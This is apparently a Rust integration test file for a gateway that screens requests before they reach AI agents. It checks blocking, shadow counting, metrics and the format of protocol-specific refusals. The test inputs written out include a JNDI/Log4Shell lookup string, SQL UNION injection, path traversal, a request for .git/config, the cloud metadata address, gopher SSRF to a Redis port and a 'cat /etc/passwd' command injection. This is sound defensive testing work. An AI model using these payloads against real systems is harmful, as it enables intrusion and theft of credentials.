//! What scanners and exploits send is found before an agent sees it, however it is written.

use bytes::Bytes;
use http::Request;
use serde_json::json;

use crate::support::{
    Backend, Body, Gw, Speak, call, channel, empty, eventually, full, get, grpc, post, request, says, with_field,
};

const SPEAK: Speak = Speak { http2: true, tls: None, narrow: None, max_streams: None };

async fn agent() -> Backend {
    let answer = r#"{"jsonrpc":"2.0","id":7,"result":{"id":"t","status":{"state":"TASK_STATE_WORKING"}}}"#;
    Backend::replying_as(SPEAK, 200).await.header("content-type", "application/json").body(answer)
}

fn text(screening: &str) -> String {
    format!(
        "workers: 1\nroutes: {{ all: {{ cluster: agents, screening: {screening} }} }}\n\
         clusters: {{ agents: {{ endpoints: ['{{0}}'], protocol: h2c }} }}"
    )
}

async fn before(agent: &Backend, screening: &str) -> Gw {
    Gw::with(&text(screening), &[agent]).await
}

fn json(text: impl Into<String>) -> Request<Body> {
    with_field("content-type", "application/json", post("/", text.into()))
}

async fn found(gw: &Gw, pattern: &str, result: &str) -> f64 {
    let labels = [("route", "all"), ("pattern", pattern), ("result", result)];
    gw.metric("attache_screening_total", &labels).await
}

/// Requests that have a pattern, with its name.
fn bad() -> Vec<(&'static str, Request<Body>)> {
    vec![
        ("hidden-files", get("/.git/config")),
        ("dot-segments", get("/files?name=..%2f..%2fkey")),
        ("sql-union", get("/?id=1+union+select+2")),
        ("jndi", with_field("user-agent", "${jndi:ldap://x.test/a}", get("/"))),
        ("metadata-address", json(r#"{"url":"http:\/\/169.254.169.254\/"}"#)),
        ("jndi", with_field("content-type", "application/x-www-form-urlencoded", post("/", "a=%24%7Bjndi%3Aldap"))),
    ]
}

#[tokio::test]
async fn what_has_a_pattern_is_refused_and_the_rest_passes() {
    let agent = agent().await;
    let gw = before(&agent, "{ mode: enforce }").await;
    for (pattern, request) in bad() {
        let refused = gw.send(request).await;
        assert_eq!((refused.status, refused.reason()), (403, "screened"), "{pattern}");
        assert!(!refused.text().contains(pattern), "which one is nobody's business: {}", refused.text());
    }
    assert_eq!(agent.hits(), 0);
    assert_eq!((found(&gw, "jndi", "refused").await, found(&gw, "sql-union", "refused").await), (2.0, 1.0));
    let records = gw.records(bad().len()).await;
    for (record, (pattern, _)) in records.iter().zip(bad()) {
        assert_eq!((&record["screened"], &record["flags"]), (&json!(pattern), &json!("UAEX")), "{record:#?}");
    }
    let text = "../../ UNION SELECT <script> {{7*7}} ; cat /etc/passwd";
    let sent = json!({ "message": { "messageId": "m", "parts": [{ "text": text }] } });
    assert_eq!(gw.send(call("SendMessage", &sent)).await.status, 200, "people ask agents about such things");
    assert!(String::from_utf8_lossy(&agent.request().body).contains("UNION SELECT"));
    let record = gw.records(bad().len() + 1).await.pop().unwrap();
    assert!(record.get("screened").is_none(), "{record:#?}");
}

#[tokio::test]
async fn in_shadow_it_is_counted_and_passes() {
    let agent = agent().await;
    let gw = before(&agent, "{}").await;
    for (_, request) in bad() {
        assert_eq!(gw.send(request).await.status, 200);
    }
    assert_eq!(agent.hits(), bad().len());
    assert_eq!(found(&gw, "metadata-address", "shadow").await, 1.0);
    assert_eq!(gw.metric("attache_screening_total", &[("result", "refused")]).await, 0.0);
    let records = gw.records(bad().len()).await;
    assert!(records.iter().all(|record| record["status"] == 200 && record.get("screened").is_some()), "{records:#?}");
    assert!(agent.requests().iter().any(|seen| seen.body.ends_with(b"169.254.169.254\\/\"}")), "it comes whole");
}

#[tokio::test]
async fn a_refusal_is_said_in_the_protocol_of_its_caller() {
    let agent = agent().await;
    let gw = before(&agent, "{ mode: enforce }").await;
    let params = json!({ "message": { "parts": [{ "url": "gopher://10.0.0.1/x" }] } });
    let refused = gw.send(call("SendMessage", &params)).await;
    let said = says(&refused);
    assert_eq!((refused.status, &said["id"]), (403, &json!("call-7")));
    assert_eq!(said["error"]["data"][0]["reason"], "screened");
    let refused = gw.send(with_field("content-type", "application/json", post("/message:send?q=../../x", "{}"))).await;
    assert_eq!((refused.status, &says(&refused)["error"]["status"]), (403, &json!("PERMISSION_DENIED")));
    let refused = gw.h2().await.reply(grpc("SendMessage", b"\x0a\x18gopher://10.0.0.1:6379/_x")).await;
    assert_eq!((refused.header("grpc-status"), refused.reason()), ("7", "screened"));
    assert_eq!(agent.hits(), 0);
}

#[tokio::test]
async fn the_first_64_kib_of_a_body_are_searched_and_no_more() {
    let agent = agent().await;
    let gw = before(&agent, "{ mode: enforce }").await;
    let body = |before: usize| {
        let text = format!("{{\"a\":\"{}\",\"b\":\"http://169.254.169.254/\"}}", "x".repeat(before));
        with_field("content-type", "application/json", request("POST", "/a", full(text)))
    };
    assert_eq!(gw.send(body(60_000)).await.reason(), "screened");
    assert_eq!(gw.send(body(66_000)).await.status, 200);
    let (sender, streamed) = channel();
    let sent = tokio::spawn(async move {
        for piece in ["{\"url\":\"http://169.", "254.169", ".254/\"}"] {
            sender.send(Bytes::from_static(piece.as_bytes())).await;
        }
        drop(sender);
    });
    let refused = gw.send(with_field("content-type", "application/json", request("POST", "/a", streamed))).await;
    assert_eq!(refused.reason(), "screened", "in several pieces");
    sent.await.unwrap();
    assert_eq!(agent.hits(), 1);
}

#[tokio::test]
async fn a_body_that_cannot_be_searched_does_not_pass() {
    let agent = agent().await;
    let coded = || with_field("content-encoding", "gzip", json("x"));
    let gw = before(&agent, "{ mode: enforce }").await;
    assert_eq!(gw.send(coded()).await.reason(), "screened");
    assert_eq!((found(&gw, "unread", "refused").await, agent.hits()), (1.0, 0));
    let gw = before(&agent, "{ mode: shadow }").await;
    assert_eq!(gw.send(coded()).await.status, 200);
    assert_eq!(found(&gw, "unread", "shadow").await, 1.0);
    assert_eq!(gw.record().await["screened"], "unread");
    let gw = before(&agent, "{ mode: enforce, parts: [path, query] }").await;
    assert_eq!(gw.send(coded()).await.status, 200, "nobody wants to know");
}

#[tokio::test]
async fn routes_choose_what_is_looked_for_and_reloads_change_it() {
    let text = |mode: &str| {
        format!(
            "workers: 1\ndefaults: {{ route: {{ screening: {{ mode: {mode} }} }} }}\nroutes:\n  \
             all: {{ endpoints: ['{{0}}'] }}\n  \
             own: {{ match: {{ path: {{ prefix: /own }} }}, endpoints: ['{{0}}'], screening: {{ sets: [], \
             headers: x-note, patterns: [{{ name: word, regex: '(?i)sesame' }}] }} }}\n  \
             open: {{ match: {{ path: {{ prefix: /open }} }}, endpoints: ['{{0}}'], screening: off }}\n  \
             said: {{ match: {{ path: {{ prefix: /said }} }}, respond: {{}}, screening: off }}\n\
             clusters: {{}}"
        )
    };
    let backend = Backend::replying(200).await;
    let mut gw = Gw::with(&text("enforce"), &[&backend]).await;
    for (path, status) in
        [("/?q=../x", 403), ("/own?q=../x", 200), ("/own/SESAME", 403), ("/open?q=../x", 200), ("/said?q=../x", 200)]
    {
        assert_eq!(gw.get(path).await.status, status, "{path}");
    }
    assert_eq!(gw.send(with_field("x-note", "open, Sesame", get("/own"))).await.status, 403);
    assert_eq!(gw.send(with_field("x-other", "open, Sesame", get("/own"))).await.status, 200);
    let mut client = gw.h1().await;
    assert_eq!(client.reply(request("HEAD", "/?q=../x", empty())).await.status, 403);
    gw.reload(&text("shadow"), &[&backend]).await.unwrap();
    assert_eq!(client.reply(get("/?q=../x")).await.status, 200, "on the same connection");
}

/// Agents take JSON whatever it is called, and a form that is none.
#[tokio::test]
async fn no_content_type_hides_a_pattern() {
    let agent = agent().await;
    let gw = before(&agent, "{ mode: enforce }").await;
    let escaped = r#"{"url":"go\u0070her://10.0.0.1/x"}"#;
    let form = "application/x-www-form-urlencoded";
    for (types, body, expected) in [
        (&["application/octet-stream"][..], escaped, "screened"),
        (&["multipart/form-data; boundary=x"], escaped, "screened"),
        (&[form], escaped, "screened"),
        (&[form], "a=go%70her%3A%2F%2F10.0.0.1%2Fx", "screened"),
        (&["application/json", form], "a=go%70her%3A%2F%2F10.0.0.1%2Fx", "screened"),
        (&["application/grpc-web"], escaped, "screened"),
        (&["application/grpc+json"], escaped, "screened"),
        (&["application/grpc", "application/json"], escaped, "screened"),
        (&[], escaped, "screened"),
        (&["application/grpc"], escaped, ""),
    ] {
        let mut request = post("/a", body);
        for value in types {
            request.headers_mut().append("content-type", value.parse().unwrap());
        }
        assert_eq!(gw.send(request).await.reason(), expected, "{types:?} {body}");
    }
    assert_eq!(agent.hits(), 1);
}

#[tokio::test]
async fn the_series_of_a_pattern_goes_with_it() {
    let agent = agent().await;
    let mut gw = before(&agent, "{ mode: enforce }").await;
    for (_, request) in bad() {
        assert_eq!(gw.send(request).await.status, 403);
    }
    assert_eq!(found(&gw, "jndi", "refused").await, 2.0);
    gw.reload(&text("{ mode: enforce, except: jndi }"), &[&agent]).await.unwrap();
    eventually("its series is gone", || async { !gw.metrics().await.contains("pattern=\"jndi\"") }).await;
    assert_eq!(found(&gw, "sql-union", "refused").await, 1.0, "and no other");
}
